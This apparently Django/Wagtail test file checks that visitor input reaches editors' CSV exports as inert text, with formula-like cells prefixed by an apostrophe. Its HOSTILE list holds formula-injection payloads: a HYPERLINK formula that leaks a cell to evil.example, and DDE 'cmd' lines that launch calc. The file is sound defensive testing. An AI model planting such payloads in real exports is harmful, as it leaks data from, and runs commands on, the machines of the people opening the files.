"""What visitors type reaches editors' CSV exports as text a spreadsheet shows, never as a
formula it runs."""

import csv
import io

import pytest
from django.urls import reverse

from feedback.factories import FeedbackFormPageFactory, add_feedback_fields
from feedback.forms import HONEYPOT_FIELD
from projects.factories import ProjectIndexPageFactory, ProjectPageFactory
from security.spreadsheets import spreadsheet_safe

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_starts_with_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "-3", "381261.56", "Lapin liitto", "", None, 5])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def csv_rows(response):
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content)))


def cells(rows):
    return {cell for row in rows for cell in row}


def test_feedback_answers_export_as_text(client, admin_client, home):
    page = FeedbackFormPageFactory(parent=home)
    add_feedback_fields(page)
    for message in HOSTILE:
        response = client.post(
            page.url,
            {"aihe": "Muu asia", "viesti": message, "nimi": "=1+1", HONEYPOT_FIELD: ""},
        )
        assert response.status_code == 200

    response = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"}
    )

    exported = cells(csv_rows(response))
    assert {"'" + message.strip() for message in HOSTILE} <= exported
    assert "'=1+1" in exported
    assert not any(cell.startswith(("=", "+", "@")) for cell in exported)


def test_search_terms_export_as_text(client, admin_client, home):
    for query in ("=HYPERLINK(1)", "@SUM(1)", "+cmd"):
        client.get("/haku/", {"q": query})

    reports = [
        "search_terms_report",
        "searches_without_results_report",
        "wagtailsearchpromotions:search_terms",  # Wagtail's own, for superusers
    ]
    for report in reports:
        response = admin_client.get(reverse(report), {"export": "csv"})

        exported = cells(csv_rows(response))
        assert {"'=hyperlink(1)", "'@sum(1)", "'+cmd"} <= exported, report


def test_the_project_export_writes_titles_as_text_and_amounts_as_numbers(client, home):
    index = ProjectIndexPageFactory(parent=home)
    ProjectPageFactory(parent=index, title="=HYPERLINK(1)", acronym="@SUM", total_budget=1000)

    rows = list(csv.DictReader(io.StringIO(client.get(index.url + "export/csv/").content.decode())))

    assert rows[0]["title"] == "'=HYPERLINK(1)"
    assert rows[0]["acronym"] == "'@SUM"
    assert rows[0]["total_budget_eur"] == "1000.00"
